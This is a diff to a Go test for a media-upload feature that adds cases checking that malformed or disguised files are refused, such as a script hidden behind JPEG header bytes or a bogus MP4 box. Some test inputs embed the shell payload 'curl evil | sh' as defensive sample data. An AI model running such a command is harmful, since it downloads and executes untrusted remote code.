@@ -74,6 +74,8 @@ func TestShowcaseMediaRefusedLeavesNothing(t *testing.T) {
 		{"one byte too big", bytes.NewReader(mp4(2*storage.MediaChunk+1, 3)), "showcase.too_big"},
 		{"far too big", bytes.NewReader(mp4(5*storage.MediaChunk, 3)), "showcase.too_big"},
 		{"a script named .jpg", strings.NewReader("#!/bin/sh\ncurl evil | sh\n"), "showcase.bad_type"},
+		{"a script behind a JPEG's first bytes", strings.NewReader("\xff\xd8\xff#!/bin/sh\ncurl evil | sh\n"), "showcase.broken_file"},
+		{"an MP4 of a bogus box", bytes.NewReader(append([]byte(mp4Ftyp), "\x00\x00\x01\x00evil"...)), "showcase.broken_file"},
 		{"empty", strings.NewReader(""), "showcase.bad_type"},
 		{"the download breaks", io.MultiReader(bytes.NewReader(cut), iotest.ErrReader(io.ErrUnexpectedEOF)), ""},
 	} {
